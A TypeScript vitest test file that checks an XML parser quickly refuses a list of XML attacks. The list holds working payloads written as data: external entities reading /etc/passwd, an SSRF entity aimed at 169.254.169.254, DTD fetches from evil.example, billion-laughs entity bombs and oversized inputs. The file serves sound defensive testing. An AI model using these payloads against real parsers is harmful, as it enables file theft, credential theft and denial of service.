import { describe, expect, it } from "vitest";
import { FormatError } from "../../../src/domain/format-error";
import { parseXml } from "../../../src/engine/formats/xml";

const entities = (count: number) =>
  Array.from({ length: count }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");

/** Rows 25 to 32 of the list of attacks, and their relatives. Each must be refused quickly, without a call or memory. */
const ATTACKS: [string, string][] = [
  ["external entity", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ["external entity over HTTP", '<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/">]><a>&x;</a>'],
  ["external DTD", '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'],
  ["public DTD", '<!DOCTYPE a PUBLIC "-//X//Y" "http://evil.example/a.dtd"><a/>'],
  ["parameter entity", '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>'],
  ["billion laughs", `<!DOCTYPE a [<!ENTITY l0 "lol">${entities(9)}]><a>&l9;</a>`],
  ["quadratic blow-up", `<!DOCTYPE a [<!ENTITY x "${"x".repeat(100_000)}">]><a>${"&x;".repeat(100_000)}</a>`],
  ["lower-case doctype", "<!doctype a><a/>"],
  ["doctype behind a comment and spaces", "<!-- c -->\n  <!DOCTYPE a><a/>"],
  ["doctype inside the root", '<a><!DOCTYPE b [<!ENTITY x "y">]>&x;</a>'],
  ["entity declaration alone", '<a><!ENTITY x "y"></a>'],
  ["20,000 levels", `${"<a>".repeat(20_000)}${"</a>".repeat(20_000)}`],
  ["20,000 levels, never closed", "<a>".repeat(20_000)],
  ["5,000 attributes", `<a ${Array.from({ length: 5_000 }, (_, i) => `a${i}="1"`).join(" ")}/>`],
  ["false encoding", '<?xml version="1.0" encoding="UTF-16"?><a/>'],
  ["UTF-7 encoding", '<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'],
  ["EBCDIC encoding", '<?xml version="1.0" encoding="IBM037"?><a/>'],
  ["unknown entity", "<a>&nbsp;</a>"],
  ["unknown entity in an attribute", '<a b="&x;"/>'],
  ["200,000 elements", `<a>${"<b/>".repeat(200_000)}</a>`],
  ["a megabyte of open brackets", "<".repeat(1_000_000)],
  ["a megabyte of spaces in a tag", `<a${" ".repeat(1_000_000)}`],
  ["a megabyte of spaces in the declaration", `<?xml version="1.0"${" ".repeat(1_000_000)}`],
  ["an attribute without end", `<a b="${"x".repeat(1_000_000)}`],
  ["a name without end", `<${"a".repeat(1_000_000)}`],
  ["100,000 unfinished comments", "<a><!--".repeat(100_000)],
  ["100,000 broken references", `<a>${"&#".repeat(100_000)}</a>`],
];

describe("an XML attack", () => {
  it.each(ATTACKS)("is refused in under 200 ms and without being quoted: %s", (_, text) => {
    const start = performance.now();
    let error: unknown;
    try {
      parseXml(text, { arrays: [], numbers: false }, "the request body");
    } catch (caught) {
      error = caught;
    }
    expect(performance.now() - start).toBeLessThan(200);
    expect(error).toBeInstanceOf(FormatError);
    expect((error as FormatError).message).toMatch(/^the request body: .{10,200}\.$/);
  });

  it("stays linear on large innocent texts", () => {
    const start = performance.now();
    const row = '<o id="1" n="a &amp; b"><t>text &lt; ]] &gt;</t><![CDATA[&x; <!DOCTYPE>]]></o>';
    parseXml(`<a>${row.repeat(20_000)}</a>`, { arrays: [], numbers: false });
    expect(performance.now() - start).toBeLessThan(2_000);
  });

  it("XInclude is data like any other", () => {
    const text =
      '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>';
    expect(parseXml(text, { arrays: [], numbers: false })).toEqual({
      a: {
        "@xmlns:xi": "http://www.w3.org/2001/XInclude",
        "xi:include": { "@href": "file:///etc/passwd", "@parse": "text" },
      },
    });
  });
});
